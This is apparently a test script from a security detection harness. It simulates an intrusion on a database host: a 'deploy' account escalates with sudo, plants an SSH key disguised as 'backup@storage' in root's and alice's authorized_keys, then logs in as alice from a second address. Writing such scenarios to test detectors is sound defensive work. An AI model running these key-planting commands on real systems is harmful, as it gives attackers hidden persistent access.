# deploy becomes root with sudo and plants a key in the authorized_keys of root and of alice. Then somebody logs in as alice with that key, from elsewhere.
# rules: recording
# format: RAW
# node: db-02
# source: 203.0.113.66
source "$(dirname "${BASH_SOURCE[0]}")/../helpers.sh"
another_address 203.0.113.99

ssh-keygen -q -t ed25519 -N '' -C backup@storage -f "$work/planted"
key=$(cat "$work/planted.pub")
if [[ -f /root/.ssh/authorized_keys ]]; then cp -p /root/.ssh/authorized_keys "$work/before"; fi

from "$source_ip" deploy deploy-Passw0rd "id; sudo id; echo '$key' | sudo tee -a /root/.ssh/authorized_keys >/dev/null; sudo sh -c 'echo \"$key\" >> /home/alice/.ssh/authorized_keys; chown alice:alice /home/alice/.ssh/authorized_keys; chmod 600 /home/alice/.ssh/authorized_keys'"
sleep 2
outside ssh -p 2222 "${login_options[@]}" -i "$work/planted" -o IdentitiesOnly=yes -o PasswordAuthentication=no -b 203.0.113.99 "alice@$host_ip" 'id; ls -la; cat .ssh/authorized_keys' </dev/null || true

rm -f /root/.ssh/authorized_keys
if [[ -f $work/before ]]; then mv "$work/before" /root/.ssh/authorized_keys; fi
